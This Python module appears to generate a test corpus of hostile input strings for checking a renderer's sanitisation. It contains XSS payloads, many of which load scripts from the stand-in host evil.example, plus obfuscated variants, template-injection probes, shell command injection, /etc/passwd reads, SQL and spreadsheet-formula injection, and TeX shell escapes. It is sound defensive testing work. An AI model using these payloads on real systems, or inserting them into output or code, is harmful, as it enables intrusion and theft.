"""Hundreds of invented strings, in the shapes that public collections of hostile input know.

Each tries to leave a mark that a test can find: it sets `window.caught`, asks `evil.example`
for something, or moves the page. Written for this project; the shapes are general knowledge
(filter evasion sheets, lists of naughty strings, template injection guides).
"""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

MARK = "window.caught=1"
HOST = "https://evil.example"

BREAKOUTS = (
    "",
    '">',
    "'>",
    "</h3>",
    "</title>",
    "</textarea>",
    "</a></p></details>",
    "-->",
    "]]>",
    "</math>",
    "</script>",
)
"""What comes before a payload to leave the place it was put in."""

ELEMENTS = (
    f"<script>{MARK}</script>",
    f"<script src={HOST}/x.js></script>",
    f"<img src=x onerror={MARK}>",
    f'<img/src="{HOST}/x.png"/onerror="{MARK}">',
    f"<svg onload={MARK}>",
    f"<svg><animate onbegin={MARK} attributeName=x dur=1s></svg>",
    f"<body onload={MARK}>",
    f"<input autofocus onfocus={MARK}>",
    f"<details open ontoggle={MARK}>x</details>",
    f"<video><source onerror={MARK}></video>",
    f"<audio src={HOST}/x.ogg autoplay onerror={MARK}></audio>",
    f"<iframe src='javascript:parent.{MARK}'></iframe>",
    f"<iframe srcdoc='<script>parent.{MARK}</script>'></iframe>",
    f"<object data={HOST}/x></object>",
    f"<embed src={HOST}/x>",
    f"<link rel=stylesheet href={HOST}/x.css>",
    f"<style>@import '{HOST}/x.css'; body{{display:none}}</style>",
    f"<meta http-equiv=refresh content='0;url={HOST}/'>",
    f"<base href={HOST}/>",
    f"<form action={HOST}/><button autofocus>go</button></form>",
    f"<a href={HOST}/ ping={HOST}/p>click</a>",
    f"<a href='javascript:{MARK}'>click</a>",
    f"<math><mi xlink:href='javascript:{MARK}'>x</mi></math>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={MARK}>",
    f"<noscript><p title='</noscript><img src=x onerror={MARK}>'>",
    f"<template><script>{MARK}</script></template>",
    f"<marquee onstart={MARK}>x</marquee>",
    f"<div style='position:fixed;inset:0;background:url({HOST}/b)' onmouseover={MARK}>x</div>",
    f"<dialog open onclose={MARK}>x</dialog>",
    f"<portal src={HOST}/></portal>",
)
"""Elements that run, load, cover or lead away."""

OBFUSCATED = (
    f"<ScRiPt>{MARK}</sCrIpT>",
    f"<script\t>{MARK}</script\n>",
    f"<scr<script>ipt>{MARK}</scr</script>ipt>",
    f"<<script>{MARK}//<</script>",
    f"&lt;script&gt;{MARK}&lt;/script&gt;",
    f"&#60;script&#62;{MARK}&#60;/script&#62;",
    f"&#x3c;img src=x onerror={MARK}&#x3e;",
    f"%3Cscript%3E{MARK}%3C/script%3E",
    f"\\u003cscript\\u003e{MARK}\\u003c/script\\u003e",
    f"\\x3cscript\\x3e{MARK}\\x3c/script\\x3e",
    f"\uff1cscript\uff1e{MARK}\uff1c/script\uff1e",
    f"+ADw-script+AD4-{MARK}+ADw-/script+AD4-",
    f"<img src=x o\u200bnerror={MARK}>",
    f"<svg/onload\u00a0={MARK}>",
    f"<a\u2028href='java\u2028script:{MARK}'>x</a>",
    f"<!--[if gte IE 4]><script>{MARK}</script><![endif]-->",
    f"<!-- --!><script>{MARK}</script>",
    f"<![CDATA[<script>{MARK}</script>]]>",
    f"<?xml-stylesheet href='javascript:{MARK}'?>",
    f"<!DOCTYPE x [<!ENTITY y SYSTEM '{HOST}/'>]><x>&y;</x>",
)
"""The same in disguise: case, white space, entities, escapes, look-alikes, comments."""

ADDRESSES = (
    f"javascript:{MARK}",
    f"JaVaScRiPt:{MARK}",
    f"java&#10;script:{MARK}",
    f" javascript:{MARK}",
    f"data:text/html,<script>{MARK}</script>",
    f"vbscript:{MARK}",
    f"//{HOST.removeprefix('https://')}/x",
    f"{HOST}/a?b=<c>&d='e'#f",
    f"[click](javascript:{MARK})",
    f"![x]({HOST}/x.png)",
    f"<{HOST}/autolink>",
    f"[x]: {HOST}/ 'reference'",
    "file:///etc/passwd",
    "../../../../etc/passwd",
    "http://[::1]:80@evil.example/",
)
"""Addresses, and Markdown that would become one."""

TEMPLATES = (
    "{{ 7*7 }}",
    "{{ config.__class__.__init__.__globals__ }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{% raw %}{{ x }}{% endraw %}",
    "{# comment #}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "*{7*7}",
    "@(7*7)",
    "[[${7*7}]]",
    "%(num)d %s %n %x",
    "{0.__class__} {x!r:>{y}}",
    "$HOME `id` $(id) ;id|id&&id",
    "{attach}../.env {static}/etc/passwd |filename|x.md",
    "Status: draft --- Save_as: index.html",
    "'; DROP TABLE papers; --",
    "=cmd|' /C calc'!A0",
)
"""Words of template languages, formatters, shells, metadata, databases and sheets."""

TEX = (
    rf"$\href{{javascript:{MARK}}}{{x}}$",
    rf"$\url{{{HOST}/}}$",
    rf"$\text{{<img src=x onerror={MARK}>}}$",
    rf"$\mathrm{{</math><script>{MARK}</script>}}$",
    rf"\htmlData{{x={MARK}}}{{y}} \includegraphics{{{HOST}/x.png}}",
    r"\def\x{\x\x}\x $\input{/etc/passwd}$ \write18{id}",
    "$" + "{" * 200 + "x" + "}" * 200 + "$",
    "$" + "x^{" * 60 + "y" + "}" * 60 + "$",
    "$" * 301,
    r"\frac" * 200,
    "$a$" * 100,
    f"$x \"onmouseover='{MARK}' y=\"$",
    f"$<style>@import '{HOST}/x'</style>$",
)
"""TeX that is markup, deep, endless or unbalanced."""

WRITING = (
    "\u202egnirts desrever\u202c and after",
    "\u202e\u202d\u202e\u202d unbalanced \u202e",
    "\u2066\u2067\u2068 isolates left open",
    "\u200f\u200e\u061c marks",
    "שלום עולם \u202bmixed العربية with English\u202c",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324a\u0346\u0368\u035e" * 12,
    "o" + "\u0334\u0347\u0348\u0489" * 60,
    "zero\u200bwidth\u200c\u200d\ufeff\u2060joiners",
    "tags \U000e0041\U000e0042\U000e007f",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466 \U0001f3f3\ufe0f \U0001f1fa\U0001f1f3",
    "ﷺ ﷽ 𒈙 ꧅",
    "line\u2028separator\u2029paragraph\u0085next",
    "Ω≈ç√∫˜µ≤≥÷ ¡™£¢∞§¶•ªº–≠ ｔｈｅ ｑｕｉｃｋ 𝓫𝓻𝓸𝔀𝓷 𝕗𝕠𝕩",
    "ｆｕｌｌ　ｗｉｄｔｈ 田中さんにあげて下さい 사회과학원 𠜎𠜱𠝹",
    "W" * 600,
    "永" * 400,
    "x" + "\u00ad" * 300 + "y",
    "a/" * 300,
    f"{HOST}/" + "very-long-" * 60,
    "Donaudampfschifffahrtselektrizitätenhauptbetriebswerkbauunterbeamtengesellschaft" * 4,
    "-" * 500,
    "\u00a0" * 400 + "spaces that do not break",
    "NULL",
    "undefined",
    "__proto__",
    "constructor",
    "NaN",
    "-1e999",
    "\ue000\uf8ff private use",
)
"""Directions, marks upon marks, what cannot be seen, what does not break, names that mean something to programs."""


def strings() -> tuple[str, ...]:
    """Give every string once: 330 elements behind breakouts, then every other kind."""
    return tuple(dict.fromkeys((*_broken_out(), *OBFUSCATED, *ADDRESSES, *TEMPLATES, *TEX, *WRITING)))


def _broken_out() -> Iterator[str]:
    for before, element in product(BREAKOUTS, ELEMENTS):
        yield f"{before}{element}"
